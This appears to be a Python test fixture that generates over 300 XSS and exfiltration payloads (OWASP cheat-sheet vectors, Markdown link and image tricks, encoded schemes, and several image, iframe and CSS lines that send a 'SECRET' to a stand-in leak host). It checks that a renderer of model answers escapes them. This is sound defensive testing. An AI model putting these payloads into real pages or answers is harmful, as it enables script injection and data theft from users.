"""XSS and exfiltration payloads for the answer renderers (T10 in RELIABILITY.md).

Base vectors follow the OWASP XSS filter-evasion cheat sheet plus the
Markdown-specific ways a model could ask for a script, a request or an
injected attribute; variants are generated from them (Markdown contexts,
case, entity encoding, whitespace and control characters) so the corpus
exceeds 300. Each payload carries a word that must still be visible as text
after rendering (the payload was escaped, not silently deleted), or None
where the renderer legitimately shows nothing of it (an image without alt).
"""

from __future__ import annotations

from dataclasses import dataclass

LEAK = "http://127.0.0.2:9/leak?d=SECRET"
B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="


@dataclass(frozen=True)
class Payload:
    text: str
    visible: str | None  # lower-case substring expected in the text content
    name: str


# (payload, visible word)
HTML_VECTORS: list[tuple[str, str | None]] = [
    ("<script>alert(1)</script>", "alert"),
    ("<SCRIPT SRC=http://127.0.0.2:9/xss.js></SCRIPT>", "xss.js"),
    ("<script src=//127.0.0.2:9/x.js>alert</script>", "x.js"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "alert"),
    ('<<SCRIPT>alert("XSS");//<</SCRIPT>', "alert"),
    ("<script>alert(String.fromCharCode(88,83,83))</script>", "fromcharcode"),
    ("<script\x00>alert(1)</script>", "alert"),
    ("<script/xss src=http://127.0.0.2:9/x.js></script>", "x.js"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ('<img src="x" onerror="alert(1)">', "onerror"),
    ("<IMG SRC=javascript:alert('XSS')>", "alert"),
    ("<IMG SRC=JaVaScRiPt:alert('XSS')>", "alert"),
    ("<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", "rsnake"),
    ('<IMG """><SCRIPT>alert("XSS")</SCRIPT>">', "alert"),
    ("<IMG SRC=# onmouseover=\"alert('xxs')\">", "onmouseover"),
    ('<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>', "onerror"),
    ("<img src=x:alert(alt) onerror=eval(src) alt=0>", "onerror"),
    (f"<img src={LEAK}>", "127.0.0.2"),
    ("<IMG DYNSRC=\"javascript:alert('XSS')\">", "dynsrc"),
    ("<IMG LOWSRC=\"javascript:alert('XSS')\">", "lowsrc"),
    ("<svg onload=alert(1)>", "onload"),
    ("<svg/onload=alert('XSS')>", "onload"),
    ("<svg><script>alert(1)</script></svg>", "alert"),
    ("<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "onbegin"),
    (
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a>',
        "xlink",
    ),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "mglyph"),
    ('<math href="javascript:alert(1)">CLICKME</math>', "clickme"),
    ('<iframe src="javascript:alert(1)"></iframe>', "iframe"),
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "srcdoc"),
    (f'<iframe src="{LEAK}"></iframe>', "iframe"),
    ('<object data="javascript:alert(1)"></object>', "object"),
    (
        '<object type="text/x-scriptlet" data="http://127.0.0.2:9/scriptlet.html">',
        "scriptlet",
    ),
    ('<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">', "embed"),
    ('<embed src="javascript:alert(1)">', "embed"),
    ("<base href=\"javascript:alert('XSS');//\">", "base href"),
    ('<base href="http://127.0.0.2:9/">', "base href"),
    (
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
        "http-equiv",
    ),
    (f'<meta http-equiv="refresh" content="0; url={LEAK}">', "http-equiv"),
    (
        f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,{B64_SCRIPT}">',
        "base64",
    ),
    ('<link rel="stylesheet" href="http://127.0.0.2:9/xss.css">', "stylesheet"),
    ('<link rel="prefetch" href="http://127.0.0.2:9/p">', "prefetch"),
    ('<form action="javascript:alert(1)"><input type=submit></form>', "form"),
    ('<form><button formaction="javascript:alert(1)">X</button></form>', "formaction"),
    ("<input onfocus=alert(1) autofocus>", "onfocus"),
    ("<select autofocus onfocus=alert(1)>", "onfocus"),
    ("<textarea autofocus onfocus=alert(1)>", "onfocus"),
    ("<keygen autofocus onfocus=alert(1)>", "onfocus"),
    ('<video><source onerror="alert(1)">', "onerror"),
    ("<audio src=x onerror=alert(1)>", "onerror"),
    ("<body onload=alert(1)>", "onload"),
    ("<BODY BACKGROUND=\"javascript:alert('XSS')\">", "background"),
    ("<details open ontoggle=alert(1)>", "ontoggle"),
    ("<marquee onstart=alert(1)>", "onstart"),
    ('<div style="width: expression(alert(1));">x</div>', "expression"),
    ('<div style="background:url(javascript:alert(1))">x</div>', "background"),
    (f'<div style="background-image:url({LEAK})">x</div>', "background-image"),
    ("<STYLE>@import'http://127.0.0.2:9/xss.css';</STYLE>", "@import"),
    (
        '<STYLE>li {list-style-image: url("javascript:alert(1)");}</STYLE><UL><LI>XSS',
        "list-style-image",
    ),
    ("<TABLE BACKGROUND=\"javascript:alert('XSS')\">", "background"),
    ("<TD BACKGROUND=\"javascript:alert('XSS')\">", "background"),
    ('<a href="javascript:alert(1)">click</a>', "click"),
    ('<a href="jav&#x09;ascript:alert(1)">click</a>', "click"),
    ('<a href="&#106;avascript:alert(1)">click</a>', "click"),
    ('<a href="JaVaScRiPt:alert(1)">click</a>', "click"),
    ('<a href=" &#14;  javascript:alert(1)">click</a>', "click"),
    ('<a href="vbscript:msgbox(1)">click</a>', "msgbox"),
    (f'<a href="data:text/html;base64,{B64_SCRIPT}">click</a>', "click"),
    ('<a href="#" onclick="alert(1)">click</a>', "onclick"),
    (
        '<a href="x" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
        "position",
    ),
    ('"><script>alert(1)</script>', "alert"),
    ("'><script>alert(1)</script>", "alert"),
    ('" onmouseover="alert(1)', "onmouseover"),
    ("' onmouseover='alert(1)", "onmouseover"),
    ("`onmouseover=alert(1)`", "onmouseover"),
    ('"autofocus onfocus=alert(1)//', "onfocus"),
    ("</textarea><script>alert(1)</script>", "alert"),
    ("</title><script>alert(1)</script>", "alert"),
    ("<!--<img src=x onerror=alert(1)>-->", "onerror"),
    ("<![CDATA[<script>alert(1)</script>]]>", "alert"),
    (
        '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
        "alert",
    ),
    ("\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "alert"),
    ("\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "alert"),
    ("\u003cscript\u003ealert(1)\u003c/script\u003e", "alert"),
    ("%3Cscript%3Ealert(1)%3C/script%3E", "alert"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "alert"),
    ("&#60;script&#62;alert(1)&#60;/script&#62;", "alert"),
    ("&#x3C;img src=x onerror=alert(1)&#x3E;", "onerror"),
    ("\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "alert"),
    ("<scr\x00ipt>alert(1)</scr\x00ipt>", "alert"),
    ("<a\u2028href=javascript:alert(1)>x</a>", "alert"),
    ("<isindex type=image src=1 onerror=alert(1)>", "onerror"),
    ("<x onclick=alert(1) contenteditable>click</x>", "onclick"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">', "onerror"),
    ("<template><script>alert(1)</script></template>", "alert"),
    ("<portal src=http://127.0.0.2:9/>", "portal"),
]

MARKDOWN_VECTORS: list[tuple[str, str | None]] = [
    ("[x](javascript:alert(1))", "alert"),
    ("[x](<javascript:alert(1)>)", "alert"),
    ("[x]( javascript:alert(1))", "alert"),
    ("[x](JAVASCRIPT:alert(1))", "alert"),
    ("[x](javascript&#58;alert(1))", "alert"),
    ("[x](&#106;avascript:alert(1))", "alert"),
    ("[x](jav&#x09;ascript:alert(1))", "alert"),
    ("[x](jav%09ascript:alert(1))", "alert"),
    ("[x](jav\tascript:alert(1))", "alert"),
    ("[x](java\\script:alert(1))", "x"),  # relative: harmless
    ("[x](javascript://%0aalert(1))", "alert"),
    ("[x](vbscript:msgbox(1))", "msgbox"),
    (f"[x](data:text/html;base64,{B64_SCRIPT})", "x"),
    ("[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", "x"),
    ("[x](file:///etc/passwd)", "x"),
    ('[x](http://ok.example/ "title\\" onmouseover=\\"alert(1)")', "x"),
    ('[x](http://ok.example/" onmouseover="alert(1))', "onmouseover"),
    ("[a](http://ok.example/)<script>alert(1)</script>", "alert"),
    ("[click][r]\n\n[r]: javascript:alert(1)", "alert"),
    ("[click][r]\n\n[r]: <javascript:alert(1)>", "alert"),
    ('[click][r]\n\n[r]: http://ok.example/ "a" onclick="alert(1)"', "onclick"),
    ("[click]\n\n[click]: vbscript:msgbox(1)", "msgbox"),
    ("<javascript:alert(1)>", "alert"),
    ("<JavaScript:alert(1)>", "alert"),
    ("<vbscript:msgbox(1)>", "msgbox"),
    (f"<data:text/html;base64,{B64_SCRIPT}>", "base64"),
    ('<http://ok.example/"onmouseover=alert(1)>', "onmouseover"),
    (f"![]({LEAK})", None),
    (f"![secret image]({LEAK})", "secret image"),
    (f'![x]({LEAK} "onerror=alert(1)")', "x"),
    (f"![leaked][img]\n\n[img]: {LEAK}", "leaked"),
    (f"[![badge]({LEAK})](http://ok.example/)", "badge"),
    (f"![x](<{LEAK}>)", "x"),
    ("![x](javascript:alert(1))", "x"),
    ('![x" onerror="alert(1)](x.png)', "onerror"),
    ("![<img src=x onerror=alert(1)>](x.png)", "onerror"),
    (f"<{LEAK}>", "127.0.0.2"),
    ("# <script>alert(1)</script>", "alert"),
    ("## <img src=x onerror=alert(1)>", "onerror"),
    (
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(2)> |",
        "alert",
    ),
    ("| <svg onload=alert(1)> |\n|---|\n| x |", "onload"),
    ("`<script>alert(1)</script>`", "alert"),
    ("```html\n<script>alert(1)</script>\n```", "alert"),
    ('```"><script>alert(1)</script>\nx\n```', "x"),
    ("```javascript:alert(1)\nx\n```", "x"),
    ("    <iframe src=javascript:alert(1)>", "iframe"),
    ("> <script>alert(1)</script>", "alert"),
    ("- <img src=x onerror=alert(1)>", "onerror"),
    ("1. <svg onload=alert(1)>", "onload"),
    ("**<script>alert(1)</script>**", "alert"),
    ("_<img src=x onerror=alert(1)>_", "onerror"),
    ("~~<script>alert(1)</script>~~", "alert"),
    ('[1]" onmouseover="alert(1)', "onmouseover"),
    ("[1]<script>alert(1)</script>[2]", "alert"),
    ("[[1]](javascript:alert(1))", "alert"),
    ("[1]: javascript:alert(1)\n\nSee [1].", "see"),
    (f"[1]: {LEAK}\n\nSee [1].", "see"),
    ("`[1]` <img src=x onerror=alert(1)>", "onerror"),
    ("<div>\n\n[x](javascript:alert(1))\n\n</div>", "alert"),
    ("<details><summary>x</summary>\n\n<script>alert(1)</script></details>", "alert"),
    ("Setext <script>alert(1)</script>\n===", "alert"),
    ("\\<script>alert(1)\\</script>", "alert"),
    ("&lt;img src=x onerror=alert(1)&gt;", "onerror"),
    ("[x](https://ok.example/?q=<script>alert(1)</script>)", "x"),  # a query
    ("<a href='javascript:alert(1)'>[1]</a>", "alert"),
    ('[x](#" onmouseover="alert(1))', "onmouseover"),
]

SCHEMES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&#x0A;ascript:alert(1)",
    "jav&#x0D;ascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "javascript&colon;alert(1)",
    "java%0ascript:alert(1)",
    "java%00script:alert(1)",
    "%6A%61%76%61%73%63%72%69%70%74:alert(1)",
    "\x01javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "livescript:alert(1)",
    "mocha:alert(1)",
    f"data:text/html;base64,{B64_SCRIPT}",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "data:image/png;base64,iVBORw0KGgo=",
    "file:///etc/passwd",
    "ftp://127.0.0.2:9/",
    "blob:http://127.0.0.2:9/x",
    "filesystem:http://127.0.0.2:9/x",
    "intent://x#Intent;scheme=javascript:alert(1);end",
]

CONTEXTS = {
    "plain": "{}",
    "heading": "# {}",
    "h2": "Title {}\n---",
    "list": "- item\n- {}",
    "ordered": "3. {}",
    "quote": "> {}",
    "strong": "**{}**",
    "table": "| head | other |\n|:---|---:|\n| {} | cell |",
    "link-text": "[{}](http://ok.example/)",
    "sentence": "Citation [1] says {} and [2].",
    "code-span": "`{}`",
    "fence": "```\n{}\n```",
}


def _entities(text: str, chars: str = "<>:\"'=()") -> str:
    return "".join(f"&#{ord(c)};" if c in chars else c for c in text)


def _hex_entities(text: str, chars: str = "<>:\"'=") -> str:
    return "".join(f"&#x{ord(c):x};" if c in chars else c for c in text)


def _payloads() -> list[Payload]:
    out: list[Payload] = []
    base = HTML_VECTORS + MARKDOWN_VECTORS
    for i, (text, visible) in enumerate(base):
        out.append(Payload(text, visible, f"base-{i}"))
    # Every HTML vector in each Markdown context.
    for i, (text, visible) in enumerate(HTML_VECTORS):
        for ctx, template in CONTEXTS.items():
            if ctx == "plain":
                continue
            out.append(Payload(template.format(text), visible, f"html-{i}-{ctx}"))
    # Case and encoding variants of the HTML vectors.
    for i, (text, visible) in enumerate(HTML_VECTORS):
        out.append(Payload(text.upper(), visible, f"html-{i}-upper"))
        out.append(Payload(_entities(text), visible, f"html-{i}-dec-entities"))
        out.append(Payload(_hex_entities(text), visible, f"html-{i}-hex-entities"))
        half = len(text) // 2  # a vector split by a line break (and by a chunk)
        out.append(Payload(text[:half] + "\n" + text[half:], None, f"html-{i}-split"))
    # Every dangerous scheme as an inline link, reference link, autolink,
    # image, raw HTML link and raw HTML image.
    for i, scheme in enumerate(SCHEMES):
        forms = {
            "inline": (f"[click me]({scheme})", "click me"),
            "angle": (f"[click me](<{scheme}>)", "click me"),
            "spaced": (f"[click me](  {scheme}  )", "click me"),
            "titled": (f'[click me]({scheme} "t")', "click me"),
            "ref": (f"[click me][r]\n\n[r]: {scheme}", "click me"),
            "autolink": (f"<{scheme}>", None),
            "image": (f"![pic]({scheme})", "pic"),
            "ref-image": (f"![pic][i]\n\n[i]: {scheme}", "pic"),
            "html-a": (f'<a href="{scheme}">click me</a>', "click me"),
            "html-img": (f'<img src="{scheme}">', "img"),
        }
        for form, (text, visible) in forms.items():
            out.append(Payload(text, visible, f"scheme-{i}-{form}"))
    return out


PAYLOADS: list[Payload] = _payloads()
